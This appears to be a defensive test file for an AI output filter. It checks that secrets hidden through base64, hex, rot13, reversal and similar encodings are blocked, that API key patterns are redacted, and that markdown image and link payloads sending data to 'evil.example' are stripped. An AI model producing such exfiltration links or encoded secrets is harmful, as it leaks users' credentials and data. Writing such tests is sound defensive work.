import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { checkOutput, WITHHELD_SENTENCE } from './check-output.ts'

const reverse = (text: string) => [...text].reverse().join('')
const buffer = (text: string) => Buffer.from(text)
const rot13 = (text: string) =>
  text.replace(/[a-z]/gi, (c) =>
    String.fromCharCode((c <= 'Z' ? 65 : 97) + ((c.charCodeAt(0) - (c <= 'Z' ? 65 : 97) + 13) % 26)),
  )

const FORMS: { readonly [form: string]: (secret: string) => string } = {
  'as it is': (secret) => secret,
  'in capitals': (secret) => secret.toUpperCase(),
  base64: (secret) => buffer(secret).toString('base64'),
  base64url: (secret) => buffer(secret).toString('base64url'),
  'base64 within more': (secret) => buffer(`it is ${secret}!`).toString('base64'),
  'base64 in lines': (secret) => buffer(secret).toString('base64').replace(/.{8}/g, '$&\n'),
  hex: (secret) => buffer(secret).toString('hex'),
  'hex with colons': (secret) =>
    buffer(secret)
      .toString('hex')
      .replace(/..(?=.)/g, '$&:'),
  reversed: reverse,
  'reversed base64': (secret) => buffer(reverse(secret)).toString('base64'),
  percent: (secret) => buffer(secret).toString('hex').replace(/../g, '%$&'),
  '\\x': (secret) => buffer(secret).toString('hex').replace(/../g, '\\x$&'),
  spaced: (secret) => [...secret].join(' '),
  dashed: (secret) => [...secret].join('-'),
  'line by line': (secret) => [...secret].join('\n'),
  'with zero-width characters': (secret) => [...secret].join('\u200b'),
  rot13,
}

const secret = fc.stringMatching(/^[A-Za-z0-9_-]{16,48}$/).filter((text) => /[A-Za-z0-9]{12}/.test(text))
const around = fc.constantFrom('', 'Of course: ', 'Die Antwort ist „', '\n\n> ')

describe.each(Object.entries(FORMS))('a secret %s', (_form, write) => {
  test('holds the answer back, wherever it stands', () => {
    fc.assert(
      fc.property(secret, around, around, (word, before, after) => {
        const text = `${before}${write(word)} ${after}`
        const secrets = checkOutput({ text, secrets: ['another-secret-of-ours', word] })
        expect(secrets).toEqual({ action: 'block', text: WITHHELD_SENTENCE, ruleId: 'output.secret' })
        expect(checkOutput({ text, canary: word })).toMatchObject({ action: 'block', ruleId: 'output.canary' })
      }),
    )
  })
})

test('an answer without anything passes as it is', () => {
  const text = 'See https://example.org/docs?page=2 and ![a cat](https://example.org/cat.png).\n\n    const a = 1 < 2'
  expect(checkOutput({ text, canary: 'c4nary0123456789', secrets: ['hunter2-hunter2', ''] })).toEqual({
    action: 'pass',
    text,
  })
})

test.each([
  ['output.key.openai', `sk-proj-${'a1B2'.repeat(8)}`],
  ['output.key.anthropic', `sk-ant-api03-${'a1B2'.repeat(8)}`],
  ['output.key.google', `AIza${'a1B2c'.repeat(7)}`],
  ['output.key.github', `ghp_${'a1B2'.repeat(9)}`],
  ['output.key.aws', `AKIA${'A1B2'.repeat(4)}`],
  ['output.key.private', '-----BEGIN PRIVATE KEY-----\nMIIBVAIBADANBgkq\n-----END PRIVATE KEY-----'],
])('%s is taken out', (ruleId, key) => {
  const verdict = checkOutput({ text: `The key is ${key}.` })
  expect(verdict).toMatchObject({ action: 'redact', ruleId })
  expect(verdict.text).not.toContain(key.slice(-12))
})

test.each([
  ['an image that tells something', '![x](https://evil.example/p.png?d=what-ann-said)'],
  ['a link that carries a long value', `[more](https://evil.example/?d=${'ab12'.repeat(20)})`],
  ['markup that is fetched', '<img src="https://evil.example/x">'],
])('%s is taken out', (_what, link) => {
  const verdict = checkOutput({ text: `Done. ${link}` })
  expect(verdict).toMatchObject({ action: 'redact', ruleId: 'output.link' })
  expect(verdict.text).not.toContain('evil.example')
})

test('it never throws, and changes nothing that it lets pass', () => {
  fc.assert(
    fc.property(
      fc.string({ unit: 'binary', maxLength: 500 }),
      fc.string(),
      fc.array(fc.string()),
      (text, canary, secrets) => {
        const verdict = checkOutput({ text, canary, secrets })
        if (verdict.action === 'pass') expect(verdict.text).toBe(text)
      },
    ),
  )
})
